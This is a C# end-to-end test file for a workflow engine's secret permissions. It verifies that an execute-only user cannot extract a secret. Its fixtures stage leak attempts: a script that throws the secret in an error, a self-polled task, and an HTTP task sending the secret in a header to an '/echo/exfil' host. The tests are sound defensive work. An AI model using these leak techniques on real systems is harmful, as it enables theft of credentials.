using System.Net;
using System.Text.Json.Nodes;
using Baton.EndToEnd.Infrastructure;
using Baton.Testing;

namespace Baton.EndToEnd.TrustModel;

/// <summary>
/// Issue 13 finding 4: EXECUTE on a secret lets a principal run workflows that use it and never obtain it. A USER who
/// holds only EXECUTE tries the three ways the review found (a script that throws the value, a SIMPLE task they poll
/// themselves, an HTTP task to a host they control); then the ways it is meant to work: a definition a READ holder
/// wrote, a binding by a READ holder to that exact content, and workers that may use the secret.
/// </summary>
[Collection(SharedServer.Name)]
public sealed class UseWithoutReadTests(ServerFixture fixture) : IDisposable
{
    private readonly TrustUsers _users = new(fixture);

    public void Dispose() => _users.Dispose();

    /// <summary>A secret the administrator owns, and a USER who holds only EXECUTE on it.</summary>
    private async Task<(string Secret, string Value, string Email, BatonClient User)> ExecuteOnlyAsync()
    {
        var value = TrustUsers.Value("execute-only");
        var secret = await _users.Admin.NewSecretAsync(value);
        var (email, user) = await _users.UserAsync("USER");
        await _users.GrantAsync(email, "SECRET_NAME", secret, "EXECUTE");
        return (secret, value, email, user);
    }

    /// <summary>Every form of the value a script could have produced from it, for the scans below.</summary>
    private static string[] Forms(string value) =>
        [value, string.Join("-", value.ToCharArray()), new string([.. value.Reverse()]), value.ToUpperInvariant()];

    [Fact]
    public async Task A_script_written_by_an_execute_holder_never_receives_the_value_nor_throws_it()
    {
        var (secret, value, _, user) = await ExecuteOnlyAsync();
        var workflow = Defs.Unique("wf_throw");
        await TrustUsers.SaveAsync(user, Defs.Workflow(workflow, Defs.Inline("leak",
            "(function(){ throw new Error('leak:' + $.token.split('').join('-')); })()",
            new JsonObject { ["token"] = $"${{workflow.secrets.{secret}}}" })));

        var run = await TrustUsers.RunAsync(user, workflow);
        Assert.Equal("FAILED", run["status"]!.GetValue<string>());
        Assert.Contains($"secret '{secret}' flows only into definitions saved or bound by someone who may READ it", TrustUsers.Reason(run), StringComparison.Ordinal);
        var stored = (await _users.Admin.GetAsync($"/api/workflow/{run["workflowId"]}")).Text;
        foreach (var form in Forms(value)) Assert.DoesNotContain(form, stored, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task A_script_that_handled_a_secret_has_its_error_withheld_even_when_a_read_holder_wrote_it()
    {
        var (secret, value, _, user) = await ExecuteOnlyAsync();
        var workflow = Defs.Unique("wf_throw_admin");
        await TrustUsers.SaveAsync(_users.Admin, Defs.Workflow(workflow, Defs.Inline("leak",
            "(function(){ throw new Error('leak:' + $.token.split('').join('-')); })()",
            new JsonObject { ["token"] = $"${{workflow.secrets.{secret}}}" })));
        await _users.GrantAsync(((string)(await user.GetAsync("/api/token/userInfo")).Object["id"]!), "WORKFLOW_DEF", workflow, "EXECUTE", "READ");

        var run = await TrustUsers.RunAsync(user, workflow);
        Assert.Equal("FAILED", run["status"]!.GetValue<string>());
        Assert.Equal("INLINE task 'leak' failed; its error is withheld because its input held secret material", TrustUsers.Reason(run));
        var stored = (await user.GetAsync($"/api/workflow/{run["workflowId"]}")).Text;
        foreach (var form in Forms(value)) Assert.DoesNotContain(form, stored, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task A_simple_task_an_execute_holder_wrote_and_polls_never_carries_the_value()
    {
        var (secret, value, _, user) = await ExecuteOnlyAsync();
        var workflow = Defs.Unique("wf_poll_own");
        var type = Defs.Unique("own_type");
        await TrustUsers.SaveAsync(user, Defs.Workflow(workflow, Defs.Simple(type, "work", new JsonObject { ["token"] = $"${{workflow.secrets.{secret}}}" })));
        // Saving claimed the type for its author, who may now set it up (no retries, so the refusal ends the run).
        (await user.PutAsync("/api/metadata/taskdefs", new JsonObject { ["name"] = type, ["retryCount"] = 0 })).ShouldBe(HttpStatusCode.OK);
        var id = await user.StartAsync(workflow);

        // The author holds the type it claimed by saving the workflow, so it may poll it: the hand-off is refused.
        var deadline = DateTime.UtcNow.AddSeconds(10);
        while (DateTime.UtcNow < deadline)
        {
            var poll = await user.GetAsync($"/api/tasks/poll/{type}?timeout=200");
            Assert.True(poll.Status is HttpStatusCode.OK or HttpStatusCode.NoContent, poll.Text);
            Assert.DoesNotContain(value, poll.Text, StringComparison.Ordinal);
            if ((await user.GetWorkflowAsync(id))["status"]!.GetValue<string>() != "RUNNING") break;
        }
        var run = await user.WaitForStatusAsync(id, "FAILED");
        Assert.Contains("flows only into definitions saved or bound by someone who may READ it", TrustUsers.Reason(run), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_http_task_an_execute_holder_wrote_never_sends_the_value_to_their_host()
    {
        var (secret, value, _, user) = await ExecuteOnlyAsync();
        var workflow = Defs.Unique("wf_exfil");
        var def = Defs.Workflow(workflow, Defs.Http("send", $"{_users.PeerUrl}/echo/exfil", headers: new JsonObject { ["X-Token"] = $"${{workflow.secrets.{secret}}}" }));
        await TrustUsers.SaveAsync(user, def);

        var run = await TrustUsers.RunAsync(user, workflow);
        Assert.Equal("FAILED", run["status"]!.GetValue<string>());
        Assert.False(_users.PeerSaw(value));

        // A READ holder reviews this exact version and binds the secret to it: now it runs, as that holder agreed.
        var bound = await _users.Admin.PutAsync($"/api/secrets/{secret}/bindings/{workflow}/1");
        bound.ShouldBe(HttpStatusCode.OK);
        Assert.Equal("COMPLETED", (await TrustUsers.RunAsync(user, workflow))["status"]!.GetValue<string>());
        Assert.True(_users.PeerSaw(value));
        var bindings = (await user.GetAsync($"/api/secrets/{secret}/bindings")).Array;
        Assert.Contains(bindings, b => b!["workflowName"]!.GetValue<string>() == workflow && b["current"]!.GetValue<bool>());
        Assert.Contains((await _users.Admin.GetAsync($"/api/audit?secret={secret}&action=bind")).Array, e => e!["outcome"]!.GetValue<string>() == "ok");

        // The author edits the bound version in place: the binding no longer covers it.
        def["tasks"]![0]!["inputParameters"]!["http_request"]!["uri"] = $"{_users.PeerUrl}/echo/exfil-after-review";
        await TrustUsers.SaveAsync(user, def);
        var edited = await TrustUsers.RunAsync(user, workflow);
        Assert.Equal("FAILED", edited["status"]!.GetValue<string>());
        Assert.DoesNotContain(fixture.Peer.Requests, r => r.ToJsonString().Contains("exfil-after-review", StringComparison.Ordinal));
        Assert.Contains((await user.GetAsync($"/api/secrets/{secret}/bindings")).Array, b => !b!["current"]!.GetValue<bool>());

        // Only a READ holder binds: the execute-only user cannot bind its own edit.
        (await user.PutAsync($"/api/secrets/{secret}/bindings/{workflow}/1")).ShouldBe(HttpStatusCode.Forbidden);
    }

    [Fact]
    public Task A_worker_gets_the_value_only_if_it_may_use_the_secret_itself() =>
        AWorkerGetsItOnlyWithRightsOnTheSecretAsync("for-workers",
            (secret, type) => [Defs.Simple(type, "work", new JsonObject { ["token"] = $"${{workflow.secrets.{secret}}}" })],
            value => value, ["work"]);

    [Fact]
    public Task A_worker_gets_a_value_derived_from_a_secret_only_if_it_may_use_the_secret_itself() =>
        AWorkerGetsItOnlyWithRightsOnTheSecretAsync("derived-for-workers",
            (secret, type) =>
            [
                Defs.Inline("calc", "(function(){ return { reversed: $.key.split('').reverse().join('') }; })()", new JsonObject { ["key"] = $"${{workflow.secrets.{secret}}}" }),
                Defs.Simple(type, "work", new JsonObject { ["token"] = "${calc.output.result.reversed}" }),
            ],
            value => new string([.. value.Reverse()]), ["calc", "work"]);

    /// <summary>
    /// A workflow the administrator wrote hands its last task, a worker's, what <paramref name="tasks"/> make of a
    /// secret. A worker application that may poll the task type but not use the secret gets nothing of it and the task
    /// fails naming both; once granted EXECUTE on the secret it gets <paramref name="expected"/>, and the run's manifest
    /// names the tasks that used the secret.
    /// </summary>
    private async Task AWorkerGetsItOnlyWithRightsOnTheSecretAsync(string label, Func<string, string, JsonObject[]> tasks, Func<string, string> expected, string[] users)
    {
        var value = TrustUsers.Value(label);
        var secret = await _users.Admin.NewSecretAsync(value);
        var type = Defs.Unique("worker_rights");
        var workflow = Defs.Unique("wf_worker_rights");
        var definition = tasks(secret, type);
        await TrustUsers.SaveAsync(_users.Admin, Defs.Workflow(workflow, definition));
        (await _users.Admin.PutAsync("/api/metadata/taskdefs", new JsonObject { ["name"] = type, ["retryCount"] = 0 })).ShouldBe(HttpStatusCode.OK);
        var (appId, worker) = await _users.ApplicationAsync("WORKER");
        await _users.GrantAsync(appId, "TASK_DEF", type, "EXECUTE");

        var refused = await _users.Admin.StartAsync(workflow);
        var first = await worker.GetAsync($"/api/tasks/poll/{type}?timeout=2000");
        foreach (var form in Forms(value)) Assert.DoesNotContain(form, first.Text, StringComparison.Ordinal);
        var failed = await _users.Admin.WaitForStatusAsync(refused, "FAILED");
        Assert.Contains($"worker {appId} may not use secret '{secret}'", TrustUsers.Reason(failed, task: definition.Length - 1), StringComparison.Ordinal);

        await _users.GrantAsync(appId, "SECRET_NAME", secret, "EXECUTE");
        var allowed = await _users.Admin.StartAsync(workflow);
        var task = await worker.PollTaskAsync(type);
        Assert.Equal(expected(value), task["inputData"]!["token"]!.GetValue<string>());
        await worker.CompleteTaskAsync(task);
        await _users.Admin.WaitForStatusAsync(allowed, "COMPLETED");
        var manifest = Assert.Single((await _users.Admin.GetAsync($"/api/workflow/{allowed}/secrets")).Array)!;
        Assert.Equal(users, manifest["taskReferenceNames"]!.AsArray().Select(r => r!.GetValue<string>()).Order(StringComparer.Ordinal));
    }
}
